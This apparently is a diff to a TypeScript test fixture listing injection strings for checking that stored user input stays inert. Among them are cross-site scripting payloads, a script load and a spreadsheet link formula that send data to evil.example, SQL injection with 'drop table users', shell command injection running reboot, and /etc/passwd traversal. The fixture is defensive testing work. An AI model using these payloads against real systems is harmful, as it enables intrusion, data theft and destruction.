@@ -2,7 +2,7 @@
  * Ways by which script has got into pages: each calls `window.hit`, or would load something from elsewhere, if it ran. In
  * the browser a test asks that nothing was called and nothing was asked for.
  */
-export const payloads: readonly string[] = [
+export const htmlPayloads: readonly string[] = [
   '<script>hit()</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
   '<scr<script>ipt>hit()</scr</script>ipt>',
@@ -50,3 +50,36 @@ export const payloads: readonly string[] = [
   '"><img src=x onerror=hit()>',
   '{{constructor.constructor("hit()")()}}',
 ]
+
+/** Texts that a template, a spreadsheet, a shell, a query, a mail's head or a calendar would act on, and odd characters. */
+const otherPayloads: readonly string[] = [
+  '${7*7}',
+  '#{7*7}',
+  '<%= 7 * 7 %>',
+  '{% include "/etc/passwd" %}',
+  '{{platform_fee}}',
+  '%{(#a=7)}',
+  '=1+1',
+  '=HYPERLINK("https://evil.example?x="&A1,"go")',
+  '+1+1',
+  '-2+3',
+  '@SUM(1+1)',
+  "=cmd|'/C calc'!A0",
+  '  =1+1',
+  "'; drop table users; --",
+  "' or '1'='1",
+  '\\x27 union select * from tokens --',
+  '$(reboot) `reboot` ; reboot',
+  '%0d%0aSet-Cookie: village_device=1',
+  'x\\nEND:VCALENDAR',
+  '../../../../etc/passwd',
+  '__proto__',
+  'File \u202egpj.exe',
+  'Zero\u200bwidth\u2060joined',
+  'Z\u0351\u036b\u0343a\u0322\u0328l\u0334g\u0330o',
+  '\ufeffmark at the front',
+  '👩‍👩‍👧‍👦🏽 ﷽ ꧅',
+]
+
+/** Everything that a person may type to be stored and shown to another. */
+export const storedPayloads: readonly string[] = [...htmlPayloads, ...otherPayloads]
